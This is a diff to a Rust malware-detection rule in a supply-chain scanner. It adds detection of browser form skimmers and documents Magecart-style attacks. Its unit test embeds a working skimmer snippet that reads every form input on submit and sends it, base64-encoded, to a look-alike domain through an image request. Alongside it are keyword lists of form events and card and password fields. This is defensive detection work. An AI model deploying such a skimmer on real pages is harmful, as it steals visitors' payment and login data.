@@ -3,7 +3,7 @@
 
 use palisade_core::{Capability, Confidence, Finding, Severity};
 
-use super::sinks;
+use super::{signals, sinks};
 use super::{FileRule, RuleInfo};
 use crate::facts::{Call, FileFacts, Value};
 
@@ -31,6 +31,12 @@ sockets, WebSocket, XMLHttpRequest, or curl/wget run as a command) in a file tha
 - **DNS exfiltration**: `dns.lookup`/`resolve*` of a hostname built at run time in a file that
   hex/base32-encodes data or collects host facts, or of a literal name with a long hex label.
 
+- a **browser form skimmer**: a small hand-written file that selects form fields (`input`, password or card
+  fields), listens for `submit`/`keydown`/`input`/`change`, and beacons to a literal collection
+  URL left open for the data (`new Image().src = 'https://host/c?d=' + btoa(…)`,
+  `navigator.sendBeacon`, `fetch`): critical when it aims at card or password fields or encodes
+  what it sends, high otherwise.
+
 Graded: **critical** when the same file also collects something to send (environment variables,
 `os.hostname()`/`os.userInfo()`/`os.homedir()`, network interfaces, credential paths, the
 current directory); **high** for an exfiltration service or DNS exfiltration alone; **moderate**
@@ -44,6 +50,10 @@ for a raw IP alone.
 - Stealer typosquats posting tokens to Discord webhooks and Telegram bots (2020–2025).
 - Shai-Hulud (September 2025): posted harvested secrets to a webhook.site URL.
 - ua-parser-js, coa and rc (2021): downloaded their miner from a raw IP address.
+- Magecart-style skimmers shipped in npm packages and compromised front-end libraries
+  (2018 onwards, e.g. the British Airways and Ticketmaster script injections, copied by npm
+  typosquats of form and analytics helpers): read card fields on submit and send them to a
+  look-alike domain as an image request.
 
 ## Known false positives
 
@@ -111,6 +121,10 @@ impl FileRule for ExfilSink {
                 ));
                 return;
             }
+        }
+
+        if let Some(finding) = form_skimmer(file) {
+            out.push(finding);
         }
 
         if !sinks::has_network(file) {
@@ -215,6 +229,87 @@ fn arg_text(value: &Value) -> Option<String> {
         }
         other => sinks::value_text(other),
     }
+}
+
+/// Page events a skimmer listens to: the moment a form is filled in or sent.
+const FORM_EVENTS: &[&str] = &["submit", "keydown", "keyup", "keypress", "input", "change", "blur"];
+
+/// Selector words that aim at what people type into forms.
+const FORM_FIELDS: &[&str] = &["input", "password", "card", "cvv", "cvc", "cc-", "billing", "checkout"];
+
+/// Fields worth stealing: payment cards and passwords.
+const SENSITIVE_FIELDS: &[&str] = &["password", "card", "cvv", "cvc", "cc-", "billing", "checkout"];
+
+/// A browser form skimmer: the file selects form fields, listens for the form being filled in
+/// or sent, and beacons to a hard-coded collection URL (`new Image().src = url + data`,
+/// `navigator.sendBeacon`, `fetch`). Libraries that validate forms send nothing; analytics
+/// SDKs send to their own configured endpoint, not to a literal URL with a query to fill.
+fn form_skimmer(file: &FileFacts) -> Option<Finding> {
+    // In a bundle, the selectors, the listener and a URL can belong to unrelated modules.
+    if !sinks::is_small_handwritten(file) {
+        return None;
+    }
+    let selectors: Vec<String> = file
+        .calls
+        .iter()
+        .filter(|c| {
+            matches!(
+                signals::method(&c.callee),
+                "querySelector" | "querySelectorAll" | "getElementsByTagName" | "getElementById" | "getElementsByName"
+            )
+        })
+        .filter_map(|c| c.args.first().and_then(Value::as_str))
+        .map(str::to_ascii_lowercase)
+        .filter(|selector| FORM_FIELDS.iter().any(|field| selector.contains(field)))
+        .collect();
+    if selectors.is_empty() {
+        return None;
+    }
+    let listens = file.calls.iter().any(|c| {
+        signals::method(&c.callee) == "addEventListener"
+            && c.args
+                .first()
+                .and_then(Value::as_str)
+                .is_some_and(|e| FORM_EVENTS.contains(&e))
+    });
+    if !listens {
+        return None;
+    }
+    // A collection URL with a query left open for the data: `https://host/c?d=`.
+    let collector = file.strings.iter().find(|s| {
+        let value = s.value.trim();
+        value.len() <= 2048 && value.ends_with('=') && sinks::url_hosts(value).iter().any(|host| host.contains('.'))
+    })?;
+    let beacons = file.assignments.iter().any(|a| a.target.ends_with(".src"))
+        || file.calls.iter().any(|c| {
+            matches!(sinks::normalize(&c.callee), "navigator.sendBeacon" | "fetch") || sinks::is_network_call(c)
+        });
+    if !beacons {
+        return None;
+    }
+    let sensitive = selectors
+        .iter()
+        .any(|selector| SENSITIVE_FIELDS.iter().any(|field| selector.contains(field)));
+    let encodes =
+        file.calls.iter().any(|c| sinks::normalize(&c.callee) == "btoa") || file.calls.iter().any(encodes_data);
+    let (severity, confidence) = if sensitive || encodes {
+        (Severity::Critical, Confidence::High)
+    } else {
+        (Severity::High, Confidence::Medium)
+    };
+    Some(sinks::finding(
+        &INFO,
+        file,
+        collector.line,
+        severity,
+        confidence,
+        format!(
+            "Reads form fields (`{}`) when the page's forms are filled in or sent and beacons them to {}: a form skimmer",
+            palisade_core::bounded_excerpt(&selectors[0], 40),
+            palisade_core::bounded_excerpt(&collector.value, 80)
+        ),
+        Some(&collector.value),
+    ))
 }
 
 /// What the file gathers about the machine or user.
@@ -354,5 +449,20 @@ mod tests {
         let source = "const dns = require('dns');\nconst os = require('os');\nconst label = Buffer.from(os.hostname()).toString('hex');\ndns.lookup(label + '.d.collector.example.invalid', () => {});";
         assert_eq!(worst(source), Severity::Critical);
         assert!(run("const dns = require('dns');\ndns.lookup('registry.npmjs.org', () => {});").is_empty());
+    }
+
+    #[test]
+    fn form_skimmer_is_critical() {
+        let skimmer = "document.addEventListener('submit', function () {\n  var d = {};\n  document.querySelectorAll('input').forEach(function (i) { d[i.name] = i.value; });\n  new Image().src = 'https://jquery-cdn-stats.com/collect?d=' + btoa(JSON.stringify(d));\n}, true);";
+        let findings = run(skimmer);
+        assert_eq!(findings.len(), 1, "{findings:?}");
+        assert_eq!(findings[0].severity, Severity::Critical);
+        assert!(findings[0].message.contains("form skimmer"), "{}", findings[0].message);
+        // Validation reads the same fields and sends nothing.
+        let validator = "document.addEventListener('submit', (e) => {\n  for (const i of document.querySelectorAll('input[required]')) { if (!i.value) e.preventDefault(); }\n});";
+        assert!(run(validator).is_empty(), "{:?}", run(validator));
+        // An image whose URL is complete is not a beacon left open for data.
+        let gallery = "document.querySelector('input.search').addEventListener('input', () => { new Image().src = 'https://cdn.example.com/spinner.gif'; });";
+        assert!(run(gallery).is_empty(), "{:?}", run(gallery));
     }
 }
